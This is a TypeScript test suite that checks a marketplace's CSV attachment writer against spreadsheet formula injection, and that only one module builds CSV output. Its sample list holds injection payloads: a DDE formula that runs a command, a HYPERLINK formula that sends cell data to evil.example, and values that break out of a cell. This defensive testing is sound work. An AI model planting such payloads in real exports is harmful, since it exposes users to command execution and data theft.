import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { text } from 'node:stream/consumers';
import { Readable } from 'node:stream';
import { describe, test } from 'node:test';
import { fromRoot } from '../../scripts/toolchain/paths.mjs';
import { csvAttachment } from '../../marketplace/core/mail/csv-attachment.ts';

/** First characters that make a spreadsheet run a formula, and one that breaks out of a cell to start another. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  '\uFF1D1+1',
  'x",=1+1',
  'x\r\n=1+1',
];

/** The cells of a CSV text as a spreadsheet parses them. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  for (const [, quoted, bare] of csv.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/g))
    cells.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
  return cells;
}

describe('a CSV file', () => {
  test('has no cell that a spreadsheet would execute, whatever a name contains', async () => {
    const rows = (async function* () {
      yield FORMULAS.map((formula) => [formula, 'plain', '12.50']);
    })();
    const { content } = csvAttachment({ name: 'x', head: ['Name', 'Note', 'Sum'], rows, count: FORMULAS.length });
    const csv = await text(Readable.from(content as AsyncIterable<Buffer>));
    const cells = cellsOf(csv);
    assert.equal(cells.filter((cell) => cell === 'plain').length, FORMULAS.length);
    for (const cell of cells) assert.ok(!/^[=+\-@\t\r\uFF0B\uFF0D\uFF1D\uFF20]/.test(cell), JSON.stringify(cell));
    for (const formula of FORMULAS)
      assert.ok(
        cells.some((cell) => cell.endsWith(formula)),
        JSON.stringify(formula),
      );
  });

  test('is written by one module only', () => {
    const sources = readdirSync(fromRoot('marketplace'), { recursive: true, encoding: 'utf8' }).filter((file) =>
      file.endsWith('.ts'),
    );
    assert.deepEqual(
      sources.filter((file) => readFileSync(fromRoot('marketplace', file), 'utf8').includes("from 'csv-stringify")),
      ['core/csv.ts'],
    );
  });
});
